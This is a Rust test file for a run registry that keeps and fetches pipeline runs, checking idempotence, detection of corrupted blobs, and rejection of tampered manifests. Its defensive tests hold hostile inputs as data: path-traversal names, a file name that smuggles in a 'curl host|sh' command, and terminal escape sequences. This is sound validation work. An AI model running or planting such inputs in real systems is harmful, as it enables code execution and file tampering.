use std::sync::Arc;

use artifact::Artifact;

use super::*;
use crate::{BlobError, BlobStore, LocalDirectory};

#[derive(Serialize, Deserialize)]
struct Seven(u64);

impl Artifact for Seven {
    artifact::payload!();
    const KIND: &str = "seven";
    const LAYOUT: u16 = 1;
}

/// Makes a run by hand: a committed stage, one that is not, and what a kill leaves.
fn run(root: &Path) -> Run {
    let run = Run::create(root, &7, 7).unwrap();
    let directory = run.directory();
    for (path, text) in [
        ("01-ingestion/manifest.json", "{}"),
        ("01-ingestion/rows.parquet", "rows"),
        ("01-ingestion/.rows.1-1.tmp", "r"),
        (
            "02-validation/validation.json",
            "of a stage that has failed",
        ),
        ("given-holdout/x/config.yaml", "7\n"),
        ("report.html", ""),
        ("notes (1).txt", "of a visitor"),
    ] {
        let path = directory.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    run
}

fn files(kept: &KeptRun) -> Vec<&str> {
    kept.files.keys().map(String::as_str).collect()
}

#[test]
fn a_run_comes_back_as_it_was_committed_and_once() {
    let place = tempfile::tempdir().unwrap();
    let registry = Registry::local(place.path());
    let run = run(&place.path().join("here"));
    let kept = registry.keep_run(&run).unwrap();
    let expected = [
        "01-ingestion/manifest.json",
        "01-ingestion/rows.parquet",
        "config.yaml",
        "given-holdout/x/config.yaml",
        "report.html",
    ];
    assert_eq!(files(&kept), expected);
    assert_eq!(registry.keep_run(&run).unwrap(), kept);
    assert_eq!(registry.kept_runs().unwrap(), [run.name()]);

    let there = place.path().join("there");
    // An attempt that was cut short.
    fs::create_dir_all(there.join(run.name()).join("01-ingestion")).unwrap();
    let directory = registry.fetch_run(&run.name(), &there).unwrap();
    for path in expected {
        let bytes = |directory: &Path| fs::read(directory.join(path)).unwrap();
        assert_eq!(bytes(&directory), bytes(run.directory()), "{path}");
    }
    let again = registry.fetch_run(&run.name(), &there).unwrap_err();
    assert!(again.to_string().contains("is there already"), "{again}");
}

/// A store with more keys than anyone may list.
struct Full(LocalDirectory);

impl BlobStore for Full {
    fn location(&self) -> String {
        self.0.location()
    }

    fn get(&self, key: &str) -> Result<Option<Vec<u8>>, BlobError> {
        self.0.get(key)
    }

    fn length(&self, key: &str) -> Result<Option<u64>, BlobError> {
        self.0.length(key)
    }

    fn put(&self, key: &str, bytes: &[u8]) -> Result<(), BlobError> {
        let is_new = self.0.get(key)?.is_none();
        assert!(is_new || key.starts_with("runs/"), "{key} is put again");
        self.0.put(key, bytes)
    }

    fn put_if_absent(&self, key: &str, bytes: &[u8]) -> Result<bool, BlobError> {
        self.0.put_if_absent(key, bytes)
    }

    fn list(&self, prefix: &str) -> Result<Vec<String>, BlobError> {
        Err(BlobError {
            location: self.location(),
            action: "list",
            key: prefix.to_owned(),
            reason: "they are too many".to_owned(),
        })
    }
}

#[test]
fn a_run_is_kept_in_a_registry_however_much_it_holds() {
    let place = tempfile::tempdir().unwrap();
    let inner = LocalDirectory::new(place.path().join("registry"));
    let registry = Registry::new(Arc::new(Full(inner)));
    let run = run(&place.path().join("here"));
    let kept = registry.keep_run(&run).unwrap();
    assert_eq!(registry.keep_run(&run).unwrap(), kept);
}

#[test]
fn a_damaged_artifact_is_not_kept_in_place_of_the_sound_one() {
    let place = tempfile::tempdir().unwrap();
    let registry = Registry::local(place.path());
    let run = run(&place.path().join("here"));
    let mut bytes = codec::encode(&Seven(7)).unwrap();
    let artifact = run.directory().join("01-ingestion/seven.bin");
    fs::write(&artifact, &bytes).unwrap();
    let kept = registry.keep_run(&run).unwrap();
    let blob = codec::verify_any(&bytes).unwrap();
    assert_eq!(kept.files["01-ingestion/seven.bin"].blob, blob);

    *bytes.last_mut().unwrap() ^= 1;
    fs::write(&artifact, &bytes).unwrap();
    let refused = registry.keep_run(&run).unwrap_err().to_string();
    assert!(refused.contains("seven.bin"), "{refused}");
    assert_eq!(registry.kept_run(&run.name()).unwrap(), kept);
}

/// Spoils what a registry keeps of a run; what fetching it says must hold the words, and leave no run.
fn check(spoil: impl Fn(&Path, &str), words: &str) {
    let place = tempfile::tempdir().unwrap();
    let registry = Registry::local(place.path());
    let run = run(&place.path().join("here"));
    registry.keep_run(&run).unwrap();
    spoil(&place.path().join("registry"), &run.name());
    let there = place.path().join("there");
    let error = registry.fetch_run(&run.name(), &there).unwrap_err();
    assert!(error.to_string().contains(words), "{error}");
    assert!(!there.join(run.name()).join(CONFIG).exists(), "{words}");
}

#[test]
fn what_is_damaged_or_leads_elsewhere_is_not_fetched() {
    let blob = |registry: &Path| registry.join(blob_key(Digest::of(b"rows")));
    check(
        |r, _| fs::write(blob(r), "row").unwrap(),
        "holds something else",
    );
    check(
        |r, _| fs::remove_file(blob(r)).unwrap(),
        "is missing, but `runs/",
    );
    check(
        |r, n| fs::remove_file(r.join(run_key(n))).unwrap(),
        "keeps no run",
    );
    let rewrite = |from: &'static str, to: &'static str| {
        move |registry: &Path, name: &str| {
            let path = registry.join(run_key(name));
            let text = fs::read_to_string(&path).unwrap();
            assert!(text.contains(from), "{text}");
            fs::write(path, text.replace(from, to)).unwrap();
        }
    };
    check(
        rewrite("report.html", "../report.html"),
        "is no file of a run",
    );
    check(
        rewrite("report.html", "/tmp/report.html"),
        "is no file of a run",
    );
    check(
        rewrite("01-ingestion/rows", "07-x; curl host|sh/rows"),
        "\"07-x; curl host|sh/rows.parquet\" is no file of a run",
    );
    check(
        rewrite("report.html", "report\\u001b[2J.html"),
        "\"report\\u{1b}[2J.html\" is no file of a run",
    );
    check(
        rewrite("\"run\": \"", "\"run\": \"x\\u001b"),
        "it is of the run \"x\\u{1b}",
    );
    check(rewrite("\"bytes\"", "\"size\""), "unknown field");
}

#[test]
fn a_name_that_leads_elsewhere_is_no_run() {
    let place = tempfile::tempdir().unwrap();
    let registry = Registry::local(place.path());
    for name in ["", "..", "a/b", ".hidden", "/etc"] {
        let error = registry.fetch_run(name, place.path()).unwrap_err();
        assert!(
            error.to_string().contains("keeps no run"),
            "{name}: {error}"
        );
    }
}

#[test]
fn runs_of_machines_that_begin_in_the_same_second_are_both_kept() {
    let place = tempfile::tempdir().unwrap();
    let registry = Registry::local(place.path());
    // At the turn of a second the names would differ anyway.
    for machine in 0..20 {
        let root = place.path().join(machine.to_string());
        let run = Run::create(&root, &7, 7).unwrap();
        registry.keep_run(&run).unwrap();
    }
    assert_eq!(registry.kept_runs().unwrap().len(), 20);
}
